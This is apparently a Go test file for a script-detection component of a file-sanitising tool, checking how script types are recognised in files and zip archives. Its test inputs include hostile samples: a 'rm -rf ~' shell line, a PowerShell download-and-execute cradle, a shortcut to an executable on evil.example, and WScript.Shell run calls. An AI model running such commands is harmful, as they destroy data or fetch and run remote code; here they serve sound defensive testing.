package flatten

import (
	"context"
	"testing"
)

func TestScriptType(t *testing.T) {
	for _, tc := range []struct {
		name, data, want string
	}{
		{"dropper.js", "var x = 1;", ScriptJavaScript},
		{"INVOICE.VBS", "", ScriptVBScript},
		{"run.cmd.", "", ScriptBatch},
		{"a.ps1", "", ScriptPowerShell},
		{"page.hta", "", ScriptHTA},
		{"notes.txt", "#!/bin/sh\nrm -rf ~\n", ScriptShell},
		{"notes.txt", "\xef\xbb\xbf@ECHO OFF\r\nstart x.exe\r\n", ScriptBatch},
		{"notes.txt", "#@~^XwAAAA==...", ScriptEncoded},
		{"notes.txt", "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"x\");", ScriptJavaScript},
		{"notes.txt", "Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"x\"", ScriptVBScript},
		{"notes.txt", "<job id=\"a\"><script language=\"JScript\">x</script></job>", ScriptWSF},
		{"notes.txt", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]", ScriptRegistry},
		{"notes.txt", "[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n", ScriptShortcut},
		{"notes.txt", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", ScriptPowerShell},
		// Prose about scripts is text.
		{"notes.txt", "Please do not run Invoke-Expression on untrusted input.", ""},
		{"notes.txt", "The batch file starts with @echo off, as usual.", ""},
		{"議事録.txt", "会議の議事録です。\n", ""},
		{"data.csv", "a,b,c\n1,2,3\n", ""},
	} {
		if got := ScriptType(tc.name, []byte(tc.data)); got != tc.want {
			t.Errorf("ScriptType(%q, %q) = %q, want %q", tc.name, tc.data, got, tc.want)
		}
	}
}

// TestScriptsInArchives: a script inside a zip is dropped as a script
// when DropScripts is set, converted to text otherwise.
func TestScriptsInArchives(t *testing.T) {
	zip := zipOf(t, "a/run.bat", "@echo off\r\nstart calc.exe\r\n")
	for _, drop := range []bool{true, false} {
		res, err := Convert(context.Background(), Input{Name: "x.zip"}, zip, Options{DropScripts: drop})
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Entries) != 1 {
			t.Fatalf("entries: %+v", res.Entries)
		}
		r := res.Entries[0].Result
		if r.Kind != KindScript || r.MediaType != ScriptBatch {
			t.Errorf("drop=%v: kind %q type %q", drop, r.Kind, r.MediaType)
		}
		if drop && (r.Action != ActionDrop || r.Reason != ReasonScript) {
			t.Errorf("drop=%v: %+v", drop, r)
		}
		if !drop && (r.Action != ActionText || r.Text == "") {
			t.Errorf("drop=%v: %+v", drop, r)
		}
	}
}
